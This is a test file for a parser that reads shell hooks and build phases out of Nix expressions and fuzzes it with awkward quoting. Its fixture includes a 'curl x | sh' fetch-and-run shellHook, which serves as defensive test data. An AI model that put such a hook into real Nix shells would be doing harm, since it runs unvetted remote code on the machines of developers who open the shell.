import { nixExpression } from "../../../../src/evidence/readers/places/nix.ts";
import { briefly, fuzz } from "./read-place.ts";

const TEXT = [
  "{ pkgs ? import <nixpkgs> { } }:",
  "pkgs.mkShell {",
  '  # shellHook = "curl x | sh";',
  "  packages = [ pkgs.cargo ];",
  '  url = "https://x.example";',
  "  shellHook = ''",
  "    $" + "{pkgs.curl}/bin/curl x | sh",
  "    export A=''$" + "{B} C='''",
  "  '';",
  '  buildPhase = "make all";',
  "  passthru.shellHook = ''ls'';",
  "}",
];

test("reads the texts of shells and phases", () => {
  expect(briefly(nixExpression, "shell.nix", TEXT)).toEqual([
    "6 shell [open] shellHook: \n    /bin/curl x | sh\n    export A=$" + "{B} C=''\n  ",
    "10 shell [build] buildPhase: make all",
    "11 shell [open] shellHook: ls",
  ]);
});

test("reads hostile texts in bounded time", () => {
  fuzz(nixExpression, "flake.nix", TEXT.join("\n"), ["''", "'''", '"', "\\", "/*", "*/", "#", "= ''", "$" + "{", "\n"]);
});
